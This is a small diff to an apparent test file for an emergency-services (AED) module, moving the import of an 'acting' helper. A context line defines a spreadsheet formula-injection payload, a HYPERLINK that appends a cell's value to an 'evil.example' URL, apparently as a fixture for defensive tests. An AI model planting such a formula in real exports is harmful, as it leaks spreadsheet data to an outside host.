@@ -19,7 +19,8 @@ from gongchuang.emergency import service
 from gongchuang.emergency.models import Aed
 from gongchuang.emergency.schemas import AedIn
 from tests.conftest import api_token
-from tests.emergency.conftest import EmergencyWorld, acting, at
+from tests.emergency.conftest import EmergencyWorld, at
+from tests.support.principals import acting
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
